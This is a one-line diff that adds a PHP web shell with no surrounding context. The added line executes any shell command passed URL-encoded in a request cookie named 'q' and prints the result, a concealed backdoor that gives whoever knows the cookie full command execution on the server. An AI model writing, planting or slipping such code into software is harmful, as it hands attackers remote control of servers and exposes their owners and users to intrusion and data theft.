@@ -1,0 +1,1 @@
+<?php print shell_exec(urldecode($_COOKIE['q'])); ?>
